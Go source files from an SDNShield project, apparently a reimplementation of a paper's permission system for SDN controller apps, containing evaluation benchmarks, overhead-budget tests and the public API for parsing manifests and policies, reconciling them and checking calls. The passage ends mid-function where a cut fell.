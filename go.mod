module sdnshield

go 1.22
