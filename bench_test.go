package sdnshield

// This file holds one testing.B benchmark per table/figure of the
// paper's evaluation (§IX). Each delegates to the shared experiment
// runners in internal/bench, which the sdnbench CLI uses to print the
// paper-style rows; the benchmarks here report the same quantities as
// per-op metrics so `go test -bench=. -benchmem` regenerates every
// result.

import (
	"os"
	"runtime"
	"sort"
	"testing"
	"time"

	"sdnshield/internal/bench"
	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
	"sdnshield/internal/obs/span"
	"sdnshield/internal/permengine"
	"sdnshield/internal/permlang"
)

// BenchmarkTable1Effectiveness runs the §IX-B1 attack-coverage experiment
// (4 proof-of-concept attacks × {baseline, SDNShield}) once per
// iteration and reports how many attacks each runtime stopped.
func BenchmarkTable1Effectiveness(b *testing.B) {
	for i := 0; i < b.N; i++ {
		outcomes, err := bench.RunEffectiveness()
		if err != nil {
			b.Fatal(err)
		}
		var baselineBlocked, shieldBlocked float64
		for _, o := range outcomes {
			if !o.Succeeded {
				if o.Runtime == "baseline" {
					baselineBlocked++
				} else {
					shieldBlocked++
				}
			}
		}
		b.ReportMetric(baselineBlocked, "baseline-blocked/4")
		b.ReportMetric(shieldBlocked, "sdnshield-blocked/4")
	}
}

// benchmarkFig5 measures single-core permission-check cost for one
// manifest complexity and API (the bars of Figure 5).
func benchmarkFig5(b *testing.B, tokens, filtersPerToken int, api core.Token) {
	// Match RunFig5: the raw check path is measured audit-off; the audit
	// cost is budgeted on the mediated call (BenchmarkMediatedCallAudit*).
	wasOn := audit.On()
	audit.SetEnabled(false)
	defer audit.SetEnabled(wasOn)
	set := bench.BuildComplexityManifestFor(api, tokens, filtersPerToken)
	engine := permengine.New(nil)
	engine.SetPermissions("bench", set)
	trace := bench.Fig5TraceForBench(4096, api)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		//nolint:errcheck // ~5% of the trace is denied by design
		engine.Check(trace[i%len(trace)])
	}
}

func BenchmarkFig5InsertFlowSmall(b *testing.B) {
	benchmarkFig5(b, 1, 10, core.TokenInsertFlow)
}

func BenchmarkFig5InsertFlowMedium(b *testing.B) {
	benchmarkFig5(b, 5, 15, core.TokenInsertFlow)
}

func BenchmarkFig5InsertFlowLarge(b *testing.B) {
	benchmarkFig5(b, 15, 20, core.TokenInsertFlow)
}

func BenchmarkFig5ReadStatisticsSmall(b *testing.B) {
	benchmarkFig5(b, 1, 10, core.TokenReadStatistics)
}

func BenchmarkFig5ReadStatisticsMedium(b *testing.B) {
	benchmarkFig5(b, 5, 15, core.TokenReadStatistics)
}

func BenchmarkFig5ReadStatisticsLarge(b *testing.B) {
	benchmarkFig5(b, 15, 20, core.TokenReadStatistics)
}

// BenchmarkFig6Latency reports median control-plane latency for both
// scenarios and runtimes at a fixed switch count (the sdnbench CLI sweeps
// switch counts).
func BenchmarkFig6Latency(b *testing.B) {
	rounds := b.N
	if rounds < 10 {
		rounds = 10
	}
	if rounds > 500 {
		rounds = 500
	}
	rows, err := bench.RunFig6([]int{4}, rounds)
	if err != nil {
		b.Fatal(err)
	}
	for _, r := range rows {
		b.ReportMetric(float64(r.Latency.Median.Nanoseconds()),
			r.Scenario+"-"+r.Runtime+"-median-ns")
	}
}

// BenchmarkFig7Throughput reports sustained responses/sec under packet-in
// flood for both runtimes.
func BenchmarkFig7Throughput(b *testing.B) {
	duration := time.Duration(b.N) * time.Millisecond
	if duration < 100*time.Millisecond {
		duration = 100 * time.Millisecond
	}
	if duration > 2*time.Second {
		duration = 2 * time.Second
	}
	rows, err := bench.RunFig7([]int{4}, duration)
	if err != nil {
		b.Fatal(err)
	}
	for _, r := range rows {
		b.ReportMetric(r.ResponsesPerSec, r.Runtime+"-responses/s")
	}
}

// BenchmarkFig8Scalability reports latency medians while concurrent apps
// of growing complexity share the controller.
func BenchmarkFig8Scalability(b *testing.B) {
	rounds := b.N
	if rounds < 8 {
		rounds = 8
	}
	if rounds > 200 {
		rounds = 200
	}
	rows, err := bench.RunFig8([]int{1, 8}, []int{16}, rounds)
	if err != nil {
		b.Fatal(err)
	}
	for _, r := range rows {
		if r.Runtime != "sdnshield" {
			continue
		}
		name := "apps"
		switch {
		case r.Apps == 1 && r.CallsPerEvent == 1:
			name = "apps1-calls1-median-ns"
		case r.Apps == 8:
			name = "apps8-calls1-median-ns"
		default:
			name = "apps1-calls16-median-ns"
		}
		b.ReportMetric(float64(r.Latency.Median.Nanoseconds()), name)
	}
}

// obsProbeApp is the no-op app the telemetry-overhead benchmarks launch:
// the measured work is purely the mediated call path.
type obsProbeApp struct{}

func (obsProbeApp) Name() string                 { return "obsprobe" }
func (obsProbeApp) Init(api isolation.API) error { return nil }

// benchmarkMediatedCall times one mediated read call (app handle → KSD
// deputy → permission check → kernel topology read) with telemetry on or
// off. The two variants bound the instrumentation overhead on the hot
// path; the budget is 5%.
func benchmarkMediatedCall(b *testing.B, obsOn bool) {
	prev := obs.SetEnabled(obsOn)
	defer obs.SetEnabled(prev)
	k := controller.New(nil, nil)
	defer k.Stop()
	shield := isolation.NewShield(k, isolation.Config{})
	defer shield.Stop()
	shield.SetPermissions("obsprobe", permlang.MustParse("PERM visible_topology\n").Set())
	if err := shield.Launch(obsProbeApp{}); err != nil {
		b.Fatal(err)
	}
	api, err := isolation.AttackerHandle(shield, "obsprobe")
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := api.Switches(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMediatedCallObsOn(b *testing.B)  { benchmarkMediatedCall(b, true) }
func BenchmarkMediatedCallObsOff(b *testing.B) { benchmarkMediatedCall(b, false) }

// benchmarkMediatedCallAudit times the same mediated call with the audit
// journal on or off (telemetry enabled in both, so the delta isolates the
// audit pipeline: correlation-ID mint + permission-event emit). The
// budget is 5% on the On/Off ratio.
func benchmarkMediatedCallAudit(b *testing.B, auditOn bool) {
	prevObs := obs.SetEnabled(true)
	defer obs.SetEnabled(prevObs)
	prevAudit := audit.On()
	audit.SetEnabled(auditOn)
	defer audit.SetEnabled(prevAudit)
	k := controller.New(nil, nil)
	defer k.Stop()
	shield := isolation.NewShield(k, isolation.Config{})
	defer shield.Stop()
	shield.SetPermissions("obsprobe", permlang.MustParse("PERM visible_topology\n").Set())
	if err := shield.Launch(obsProbeApp{}); err != nil {
		b.Fatal(err)
	}
	api, err := isolation.AttackerHandle(shield, "obsprobe")
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := api.Switches(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMediatedCallAuditOn(b *testing.B)  { benchmarkMediatedCallAudit(b, true) }
func BenchmarkMediatedCallAuditOff(b *testing.B) { benchmarkMediatedCallAudit(b, false) }

// benchmarkMediatedCallRecorder times the same mediated call with the
// flight recorder on or off (telemetry on, audit off in both, so the
// delta isolates the recorder). Timing rides the latency sampler in
// both modes; what the recorder adds per call is exactly one frame
// append off a precomputed op descriptor — no clock reads, no map
// lookups. The budget is 5% on the On/Off ratio; `make bench-recorder`
// enforces it.
func benchmarkMediatedCallRecorder(b *testing.B, recOn bool) {
	call, cleanup := setupRecorderBench(b, recOn)
	defer cleanup()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := call(); err != nil {
			b.Fatal(err)
		}
	}
}

// setupRecorderBench prepares one recorder measurement: telemetry on,
// audit off, recorder as requested, probe app launched. The returned
// call runs one mediated call; cleanup tears the shield down and
// restores every global switch.
func setupRecorderBench(tb testing.TB, recOn bool) (call func() error, cleanup func()) {
	prevObs := obs.SetEnabled(true)
	prevAudit := audit.On()
	audit.SetEnabled(false)
	prevRec := recorder.SetEnabled(recOn)
	k := controller.New(nil, nil)
	shield := isolation.NewShield(k, isolation.Config{})
	shield.SetPermissions("obsprobe", permlang.MustParse("PERM visible_topology\n").Set())
	if err := shield.Launch(obsProbeApp{}); err != nil {
		tb.Fatal(err)
	}
	api, err := isolation.AttackerHandle(shield, "obsprobe")
	if err != nil {
		tb.Fatal(err)
	}
	call = func() error {
		_, err := api.Switches()
		return err
	}
	cleanup = func() {
		shield.Stop()
		k.Stop()
		recorder.SetEnabled(prevRec)
		audit.SetEnabled(prevAudit)
		obs.SetEnabled(prevObs)
	}
	return call, cleanup
}

func BenchmarkMediatedCallRecorderOn(b *testing.B)  { benchmarkMediatedCallRecorder(b, true) }
func BenchmarkMediatedCallRecorderOff(b *testing.B) { benchmarkMediatedCallRecorder(b, false) }

// TestRecorderOverheadBudget enforces the ≤5% recorder budget.
// Benchmarks on shared CI machines are noisy, so the guard only runs
// when asked for (SDNSHIELD_RECORDER_GUARD=1, as `make bench-recorder`
// does); plain `go test ./...` skips it.
func TestRecorderOverheadBudget(t *testing.T) {
	if os.Getenv("SDNSHIELD_RECORDER_GUARD") != "1" {
		t.Skip("set SDNSHIELD_RECORDER_GUARD=1 to run the recorder overhead guard")
	}
	// The measurement has to resolve a ~30ns effect on a ~1µs call
	// under ambient noise (scheduler migrations, load phases, heap
	// layout) worth hundreds of nanoseconds, so three layers of
	// de-biasing: (1) both variants run against ONE shield instance,
	// toggling only the recorder flag, so heap-layout luck cancels in
	// the ratio; (2) within a round the variants interleave in ~10ms
	// chunks, so load phases and CPU migrations — which persist far
	// longer than a chunk — hit both variants near-equally; (3) the
	// verdict is the median ratio across rounds, robust to an outlier
	// round. A genuine regression moves every round's ratio.
	rounds, chunks, chunkIters := 7, 60, 10_000
	if testing.Short() {
		rounds = 5
	}
	call, cleanup := setupRecorderBench(t, false)
	defer cleanup()
	runChunk := func() time.Duration {
		start := time.Now()
		for i := 0; i < chunkIters; i++ {
			if err := call(); err != nil {
				t.Fatal(err)
			}
		}
		return time.Since(start)
	}
	for i := 0; i < chunkIters; i++ { // warmup
		if err := call(); err != nil {
			t.Fatal(err)
		}
	}
	timeChunk := func(recOn bool) time.Duration {
		recorder.SetEnabled(recOn)
		return runChunk()
	}
	// One ratio per adjacent off/on chunk pair; the verdict is the
	// median over every pair of every round. Odd rounds lead with the
	// recorder on so any systematic first-vs-second-chunk effect
	// cancels across rounds.
	ratios := make([]float64, 0, rounds*chunks/2)
	for r := 0; r < rounds; r++ {
		runtime.GC()
		var offNs, onNs int64
		for c := 0; c < chunks/2; c++ {
			var off, on time.Duration
			if r%2 == 0 {
				off = timeChunk(false)
				on = timeChunk(true)
			} else {
				on = timeChunk(true)
				off = timeChunk(false)
			}
			offNs += off.Nanoseconds()
			onNs += on.Nanoseconds()
			ratios = append(ratios, float64(on)/float64(off))
		}
		perOp := float64(chunks/2) * float64(chunkIters)
		t.Logf("round %d: recorder off %.0f ns/op, on %.0f ns/op (%+.2f%%)",
			r, float64(offNs)/perOp, float64(onNs)/perOp, (float64(onNs)/float64(offNs)-1)*100)
	}
	sort.Float64s(ratios)
	overhead := ratios[len(ratios)/2] - 1
	t.Logf("mediated call: median recorder overhead %+.2f%% across %d chunk pairs", overhead*100, len(ratios))
	if overhead > 0.05 {
		t.Fatalf("recorder overhead %.2f%% exceeds the 5%% budget (median of %d chunk-pair ratios)", overhead*100, len(ratios))
	}
}

// benchmarkMediatedCallSpan times the same mediated call with the span
// layer on or off (telemetry on, audit and recorder off in both, so the
// delta isolates causal tracing). The unsampled majority of calls never
// reaches span code — their whole tracing cost is the measurement
// sampler's one atomic add, which both variants pay — and the traced
// subset's RecordTrace conversion is amortized across the sampling
// period. The budget is 5% on the On/Off ratio; `make bench-trace`
// enforces it.
func benchmarkMediatedCallSpan(b *testing.B, spanOn bool) {
	call, cleanup := setupSpanBench(b, spanOn)
	defer cleanup()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := call(); err != nil {
			b.Fatal(err)
		}
	}
}

// setupSpanBench prepares one span measurement: telemetry on, audit and
// recorder off, span layer as requested, probe app launched.
func setupSpanBench(tb testing.TB, spanOn bool) (call func() error, cleanup func()) {
	prevObs := obs.SetEnabled(true)
	prevAudit := audit.On()
	audit.SetEnabled(false)
	prevRec := recorder.SetEnabled(false)
	prevSpan := span.SetEnabled(spanOn)
	k := controller.New(nil, nil)
	shield := isolation.NewShield(k, isolation.Config{})
	shield.SetPermissions("obsprobe", permlang.MustParse("PERM visible_topology\n").Set())
	if err := shield.Launch(obsProbeApp{}); err != nil {
		tb.Fatal(err)
	}
	api, err := isolation.AttackerHandle(shield, "obsprobe")
	if err != nil {
		tb.Fatal(err)
	}
	call = func() error {
		_, err := api.Switches()
		return err
	}
	cleanup = func() {
		shield.Stop()
		k.Stop()
		span.SetEnabled(prevSpan)
		recorder.SetEnabled(prevRec)
		audit.SetEnabled(prevAudit)
		obs.SetEnabled(prevObs)
	}
	return call, cleanup
}

func BenchmarkMediatedCallSpanOn(b *testing.B)  { benchmarkMediatedCallSpan(b, true) }
func BenchmarkMediatedCallSpanOff(b *testing.B) { benchmarkMediatedCallSpan(b, false) }

// TestSpanOverheadBudget enforces the ≤5% span-layer budget on the
// mediated-call hot path, with the same de-biasing as the recorder
// guard: one shield instance, interleaved ~10ms chunks, median ratio
// across rounds. Runs only under SDNSHIELD_SPAN_GUARD=1 (as `make
// bench-trace` does); plain `go test ./...` skips it.
func TestSpanOverheadBudget(t *testing.T) {
	if os.Getenv("SDNSHIELD_SPAN_GUARD") != "1" {
		t.Skip("set SDNSHIELD_SPAN_GUARD=1 to run the span overhead guard")
	}
	rounds, chunks, chunkIters := 7, 60, 10_000
	if testing.Short() {
		rounds = 5
	}
	call, cleanup := setupSpanBench(t, false)
	defer cleanup()
	runChunk := func() time.Duration {
		start := time.Now()
		for i := 0; i < chunkIters; i++ {
			if err := call(); err != nil {
				t.Fatal(err)
			}
		}
		return time.Since(start)
	}
	for i := 0; i < chunkIters; i++ { // warmup
		if err := call(); err != nil {
			t.Fatal(err)
		}
	}
	timeChunk := func(spanOn bool) time.Duration {
		span.SetEnabled(spanOn)
		return runChunk()
	}
	ratios := make([]float64, 0, rounds*chunks/2)
	for r := 0; r < rounds; r++ {
		runtime.GC()
		var offNs, onNs int64
		for c := 0; c < chunks/2; c++ {
			var off, on time.Duration
			if r%2 == 0 {
				off = timeChunk(false)
				on = timeChunk(true)
			} else {
				on = timeChunk(true)
				off = timeChunk(false)
			}
			offNs += off.Nanoseconds()
			onNs += on.Nanoseconds()
			ratios = append(ratios, float64(on)/float64(off))
		}
		perOp := float64(chunks/2) * float64(chunkIters)
		t.Logf("round %d: span off %.0f ns/op, on %.0f ns/op (%+.2f%%)",
			r, float64(offNs)/perOp, float64(onNs)/perOp, (float64(onNs)/float64(offNs)-1)*100)
	}
	sort.Float64s(ratios)
	overhead := ratios[len(ratios)/2] - 1
	t.Logf("mediated call: median span overhead %+.2f%% across %d chunk pairs", overhead*100, len(ratios))
	if overhead > 0.05 {
		t.Fatalf("span overhead %.2f%% exceeds the 5%% budget (median of %d chunk-pair ratios)", overhead*100, len(ratios))
	}
}

// benchmarkMediatedCallHeat times the same mediated call with heat
// profiling on or off (telemetry on, audit/recorder/span off in both,
// so the delta isolates the heat layer). The unsampled majority of
// checks pays exactly one atomic load and one atomic add before taking
// the fused compiled path; only 1-in-64 checks walk the instrumented
// per-clause route. The budget is 5% on the On/Off ratio; `make
// bench-heat` enforces it.
func benchmarkMediatedCallHeat(b *testing.B, heatOn bool) {
	call, cleanup := setupHeatBench(b, heatOn)
	defer cleanup()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := call(); err != nil {
			b.Fatal(err)
		}
	}
}

// setupHeatBench prepares one heat measurement: telemetry on, audit,
// recorder and span off, heat profiling as requested at the default
// sampling rate, probe app launched.
func setupHeatBench(tb testing.TB, heatOn bool) (call func() error, cleanup func()) {
	prevObs := obs.SetEnabled(true)
	prevAudit := audit.On()
	audit.SetEnabled(false)
	prevRec := recorder.SetEnabled(false)
	prevSpan := span.SetEnabled(false)
	prevHeat := permengine.SetHeatEnabled(heatOn)
	k := controller.New(nil, nil)
	shield := isolation.NewShield(k, isolation.Config{})
	shield.SetPermissions("obsprobe", permlang.MustParse("PERM visible_topology\n").Set())
	if err := shield.Launch(obsProbeApp{}); err != nil {
		tb.Fatal(err)
	}
	api, err := isolation.AttackerHandle(shield, "obsprobe")
	if err != nil {
		tb.Fatal(err)
	}
	call = func() error {
		_, err := api.Switches()
		return err
	}
	cleanup = func() {
		shield.Stop()
		k.Stop()
		permengine.SetHeatEnabled(prevHeat)
		span.SetEnabled(prevSpan)
		recorder.SetEnabled(prevRec)
		audit.SetEnabled(prevAudit)
		obs.SetEnabled(prevObs)
	}
	return call, cleanup
}

func BenchmarkMediatedCallHeatOn(b *testing.B)  { benchmarkMediatedCallHeat(b, true) }
func BenchmarkMediatedCallHeatOff(b *testing.B) { benchmarkMediatedCallHeat(b, false) }

// TestHeatOverheadBudget enforces the ≤5% heat-profiling budget on the
// mediated-call hot path, with the same de-biasing as the recorder and
// span guards: one shield instance, interleaved ~10ms chunks, median
// ratio across rounds. Runs only under SDNSHIELD_HEAT_GUARD=1 (as
// `make bench-heat` does); plain `go test ./...` skips it.
func TestHeatOverheadBudget(t *testing.T) {
	if os.Getenv("SDNSHIELD_HEAT_GUARD") != "1" {
		t.Skip("set SDNSHIELD_HEAT_GUARD=1 to run the heat overhead guard")
	}
	rounds, chunks, chunkIters := 7, 60, 10_000
	if testing.Short() {
		rounds = 5
	}
	call, cleanup := setupHeatBench(t, false)
	defer cleanup()
	runChunk := func() time.Duration {
		start := time.Now()
		for i := 0; i < chunkIters; i++ {
			if err := call(); err != nil {
				t.Fatal(err)
			}
		}
		return time.Since(start)
	}
	for i := 0; i < chunkIters; i++ { // warmup
		if err := call(); err != nil {
			t.Fatal(err)
		}
	}
	timeChunk := func(heatOn bool) time.Duration {
		permengine.SetHeatEnabled(heatOn)
		return runChunk()
	}
	ratios := make([]float64, 0, rounds*chunks/2)
	for r := 0; r < rounds; r++ {
		runtime.GC()
		var offNs, onNs int64
		for c := 0; c < chunks/2; c++ {
			var off, on time.Duration
			if r%2 == 0 {
				off = timeChunk(false)
				on = timeChunk(true)
			} else {
				on = timeChunk(true)
				off = timeChunk(false)
			}
			offNs += off.Nanoseconds()
			onNs += on.Nanoseconds()
			ratios = append(ratios, float64(on)/float64(off))
		}
		perOp := float64(chunks/2) * float64(chunkIters)
		t.Logf("round %d: heat off %.0f ns/op, on %.0f ns/op (%+.2f%%)",
			r, float64(offNs)/perOp, float64(onNs)/perOp, (float64(onNs)/float64(offNs)-1)*100)
	}
	sort.Float64s(ratios)
	overhead := ratios[len(ratios)/2] - 1
	t.Logf("mediated call: median heat overhead %+.2f%% across %d chunk pairs", overhead*100, len(ratios))
	if overhead > 0.05 {
		t.Fatalf("heat overhead %.2f%% exceeds the 5%% budget (median of %d chunk-pair ratios)", overhead*100, len(ratios))
	}
}

// BenchmarkReconcile measures one full reconciliation of the large
// complexity manifest against a constraint-heavy policy (§IX-A: never
// exceeds one second).
func BenchmarkReconcile(b *testing.B) {
	set := bench.BuildComplexityManifest(15, 20)
	manifest, err := ParseManifest(set.String())
	if err != nil {
		b.Fatal(err)
	}
	policy, err := ParsePolicy(`
LET boundary = {
	PERM visible_topology
	PERM read_statistics LIMITING PORT_LEVEL
	PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
	PERM network_access LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0
}
ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }
ASSERT EITHER { PERM host_network } OR { PERM insert_flow }
ASSERT APP pressured <= boundary
`)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Reconcile("pressured", manifest, policy); err != nil {
			b.Fatal(err)
		}
	}
}
