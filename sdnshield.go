// Package sdnshield is the public facade of the SDNShield permission
// system (Wen et al., DSN 2016): fine-grained permission manifests for
// SDN controller apps, administrator security policies, automatic
// reconciliation of the two, and runtime permission checking.
//
// The typical app-market pipeline is three calls:
//
//	manifest, _ := sdnshield.ParseManifest(releaseManifest)
//	policy, _ := sdnshield.ParsePolicy(localSecurityPolicy)
//	result, _ := sdnshield.Reconcile("monitor", manifest, policy)
//	// result.Permissions now enforces the reconciled privileges:
//	err := result.Permissions.Check(sdnshield.APICall{
//	    App:        "monitor",
//	    Permission: "host_network",
//	    HostIP:     "203.0.113.9",
//	})
//
// The full controller stack — the OpenFlow kernel, the goroutine
// isolation runtime, the network simulator and the evaluation harness —
// lives under internal/ and is exercised by the cmd/ binaries and the
// runnable examples/.
package sdnshield

import (
	"fmt"
	"strings"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
	"sdnshield/internal/reconcile"
)

// Manifest is a parsed app permission manifest (Appendix A language).
type Manifest struct {
	inner *permlang.Manifest
}

// ParseManifest parses permission-language source.
func ParseManifest(src string) (*Manifest, error) {
	m, err := permlang.Parse(src)
	if err != nil {
		return nil, err
	}
	return &Manifest{inner: m}, nil
}

// String renders the manifest back into permission-language syntax.
func (m *Manifest) String() string { return m.inner.String() }

// Macros lists unresolved permission stubs awaiting LET bindings.
func (m *Manifest) Macros() []string { return m.inner.Macros() }

// Permissions compiles the manifest into an enforceable permission set
// (unbound macros deny at runtime).
func (m *Manifest) Permissions() *Permissions {
	return &Permissions{set: m.inner.Set()}
}

// Policy is a parsed administrator security policy (Appendix B language).
type Policy struct {
	inner *policylang.Policy
}

// ParsePolicy parses security-policy-language source.
func ParsePolicy(src string) (*Policy, error) {
	p, err := policylang.Parse(src)
	if err != nil {
		return nil, err
	}
	return &Policy{inner: p}, nil
}

// String renders the policy back into policy-language syntax.
func (p *Policy) String() string { return p.inner.String() }

// Violation describes one reconciliation finding.
type Violation struct {
	// Kind is "mutual-exclusion", "permission-boundary",
	// "unresolved-macro" or "unknown-reference".
	Kind string
	// Constraint is the violated policy statement.
	Constraint string
	// Detail explains the violation.
	Detail string
	// Repair describes the automatic fix, when one was applied.
	Repair string
}

// String renders the violation for administrator review.
func (v Violation) String() string {
	s := fmt.Sprintf("[%s] %s: %s", v.Kind, v.Constraint, v.Detail)
	if v.Repair != "" {
		s += " (repaired: " + v.Repair + ")"
	}
	return s
}

// Result is the outcome of reconciling one app's manifest.
type Result struct {
	// App is the reconciled app.
	App string
	// Clean reports the manifest satisfied the policy as requested.
	Clean bool
	// Violations lists findings in evaluation order.
	Violations []Violation
	// Permissions is the final (possibly repaired) permission set to
	// deploy the app with.
	Permissions *Permissions
	// Requested is the pre-repair permission set after macro expansion.
	Requested *Permissions
}

// Reconcile verifies and repairs an app's manifest against the policy,
// as the administrator's reconciliation engine does before deployment
// (§V-B). A nil policy performs macro expansion only.
func Reconcile(app string, manifest *Manifest, policy *Policy) (*Result, error) {
	engine := reconcile.New()
	var innerPolicy *policylang.Policy
	if policy != nil {
		innerPolicy = policy.inner
	}
	res, err := engine.Reconcile(app, manifest.inner, innerPolicy)
	if err != nil {
		return nil, err
	}
	out := &Result{
		App:         res.App,
		Clean:       res.Clean,
		Permissions: &Permissions{set: res.Reconciled},
		Requested:   &Permissions{set: res.Requested},
	}
	for _, v := range res.Violations {
		out.Violations = append(out.Violations, Violation{
			Kind:       v.Kind.String(),
			Constraint: v.Constraint,
			Detail:     v.Detail,
			Repair:     v.Repair,
		})
	}
	return out, nil
}

// Permissions is an enforceable permission set.
type Permissions struct {
	set *core.Set
}

// String renders the set as a permission manifest.
func (p *Permissions) String() string { return p.set.String() }

// Tokens lists the granted permission tokens in canonical (sorted)
// order, independent of the grant sequence that built the set.
func (p *Permissions) Tokens() []string {
	tokens := p.set.SortedTokens()
	out := make([]string, len(tokens))
	for i, t := range tokens {
		out[i] = t.String()
	}
	return out
}

// Has reports whether the named token is granted in any form.
func (p *Permissions) Has(token string) bool {
	t, ok := core.ParseToken(token)
	return ok && p.set.Has(t)
}

// Restrict narrows a granted token by conjoining a filter expression
// written in the permission language — the administrator's direct
// customization path (§V-A, "the administrator can also restrict a
// specific permission by directly appending permission filters").
// Restricting an absent token is a no-op.
func (p *Permissions) Restrict(token, filterSrc string) error {
	t, ok := core.ParseToken(token)
	if !ok {
		return fmt.Errorf("sdnshield: unknown permission %q", token)
	}
	expr, err := permlang.ParseFilter(filterSrc)
	if err != nil {
		return fmt.Errorf("parse filter: %w", err)
	}
	p.set.Restrict(t, expr)
	return nil
}

// Revoke removes a granted token entirely.
func (p *Permissions) Revoke(token string) error {
	t, ok := core.ParseToken(token)
	if !ok {
		return fmt.Errorf("sdnshield: unknown permission %q", token)
	}
	p.set.Revoke(t)
	return nil
}

// DeniedError reports a Check that failed.
type DeniedError struct {
	App        string
	Permission string
	Reason     string
}

// Error implements error.
func (e *DeniedError) Error() string {
	return fmt.Sprintf("permission denied: app %q lacks %s (%s)", e.App, e.Permission, e.Reason)
}

// APICall describes one API invocation for permission checking. Zero
// values mean "attribute absent"; filters over absent attributes pass
// vacuously, mirroring the runtime engine.
type APICall struct {
	// App is the caller's identity.
	App string
	// Permission is the required token, e.g. "insert_flow". Alias
	// spellings from the paper (network_access, send_packet_out,
	// read_topology) are accepted.
	Permission string

	// Switch is the target datapath id; SwitchSet lists topology elements
	// touched. Zero/empty mean unaddressed.
	Switch    uint64
	HasSwitch bool
	SwitchSet []uint64

	// Match fields of flow calls, as dotted-quad IPs (optionally with
	// "/len") and port numbers. Empty/negative mean wildcarded.
	IPSrc, IPDst   string
	TCPSrc, TCPDst int

	// Priority of flow-mod calls; negative means absent.
	Priority int

	// Actions of flow-mod/packet-out calls: "forward", "drop",
	// "modify" or "modify:FIELD".
	Actions []string

	// FlowOwner is the owner of the affected flow ("" = new/own).
	FlowOwner    string
	HasFlowOwner bool

	// RuleCount is the caller's current rule count on the switch.
	RuleCount    int
	HasRuleCount bool

	// FromPacketIn marks packet-outs re-emitting a buffered packet-in.
	FromPacketIn  bool
	HasProvenance bool

	// StatsLevel is "flow", "port" or "switch" for statistics calls.
	StatsLevel string

	// HostIP/HostPort describe host-network system calls.
	HostIP   string
	HostPort int
}

// Check evaluates the call against the permission set; it returns nil
// when allowed and a *DeniedError otherwise.
func (p *Permissions) Check(c APICall) error {
	call, err := c.toCore()
	if err != nil {
		return err
	}
	if p.set.Allows(call) {
		return nil
	}
	return &DeniedError{App: c.App, Permission: c.Permission, Reason: "call outside granted filters"}
}

func parseIPv4(s string) (of.IPv4, of.IPv4, error) {
	cidr := strings.SplitN(s, "/", 2)
	parts := strings.Split(cidr[0], ".")
	if len(parts) != 4 {
		return 0, 0, fmt.Errorf("sdnshield: bad IPv4 %q", s)
	}
	var ip of.IPv4
	for _, part := range parts {
		var octet int
		if _, err := fmt.Sscanf(part, "%d", &octet); err != nil || octet < 0 || octet > 255 {
			return 0, 0, fmt.Errorf("sdnshield: bad IPv4 octet %q in %q", part, s)
		}
		ip = ip<<8 | of.IPv4(octet)
	}
	mask := of.PrefixMask(32)
	if len(cidr) == 2 {
		var bits int
		if _, err := fmt.Sscanf(cidr[1], "%d", &bits); err != nil || bits < 0 || bits > 32 {
			return 0, 0, fmt.Errorf("sdnshield: bad prefix length in %q", s)
		}
		mask = of.PrefixMask(bits)
	}
	return ip, mask, nil
}

func (c APICall) toCore() (*core.Call, error) {
	token, ok := core.ParseToken(c.Permission)
	if !ok {
		return nil, fmt.Errorf("sdnshield: unknown permission %q", c.Permission)
	}
	call := &core.Call{App: c.App, Token: token}

	if c.HasSwitch {
		call.DPID = of.DPID(c.Switch)
		call.HasDPID = true
	}
	for _, s := range c.SwitchSet {
		call.Switches = append(call.Switches, of.DPID(s))
	}

	needsMatch := c.IPSrc != "" || c.IPDst != "" || c.TCPSrc > 0 || c.TCPDst > 0
	if needsMatch {
		m := of.NewMatch()
		if c.IPSrc != "" {
			ip, mask, err := parseIPv4(c.IPSrc)
			if err != nil {
				return nil, err
			}
			m.SetMasked(of.FieldIPSrc, uint64(ip), uint64(mask))
		}
		if c.IPDst != "" {
			ip, mask, err := parseIPv4(c.IPDst)
			if err != nil {
				return nil, err
			}
			m.SetMasked(of.FieldIPDst, uint64(ip), uint64(mask))
		}
		if c.TCPSrc > 0 {
			m.Set(of.FieldTPSrc, uint64(c.TCPSrc))
		}
		if c.TCPDst > 0 {
			m.Set(of.FieldTPDst, uint64(c.TCPDst))
		}
		call.Match = m
	}

	if c.Priority >= 0 && c.Priority <= 0xffff && (token == core.TokenInsertFlow ||
		token == core.TokenModifyFlow || token == core.TokenDeleteFlow) {
		call.Priority = uint16(c.Priority)
		call.HasPriority = true
	}

	if c.Actions != nil {
		call.Actions = make([]of.Action, 0, len(c.Actions))
		for _, a := range c.Actions {
			switch {
			case a == "forward":
				call.Actions = append(call.Actions, of.Output(1))
			case a == "flood":
				call.Actions = append(call.Actions, of.Flood())
			case a == "drop":
				call.Actions = append(call.Actions, of.Drop())
			case a == "modify":
				call.Actions = append(call.Actions, of.SetField(of.FieldIPDst, 0))
			case strings.HasPrefix(a, "modify:"):
				field, ok := of.ParseField(strings.TrimPrefix(a, "modify:"))
				if !ok {
					return nil, fmt.Errorf("sdnshield: unknown field in action %q", a)
				}
				call.Actions = append(call.Actions, of.SetField(field, 0))
			default:
				return nil, fmt.Errorf("sdnshield: unknown action %q", a)
			}
		}
	}

	if c.HasFlowOwner {
		call.FlowOwner = c.FlowOwner
		call.HasFlowOwner = true
	}
	if c.HasRuleCount {
		call.RuleCount = c.RuleCount
		call.HasRuleCount = true
	}
	if c.HasProvenance {
		call.FromPktIn = c.FromPacketIn
		call.HasProvenance = true
	}

	switch strings.ToLower(c.StatsLevel) {
	case "":
	case "flow":
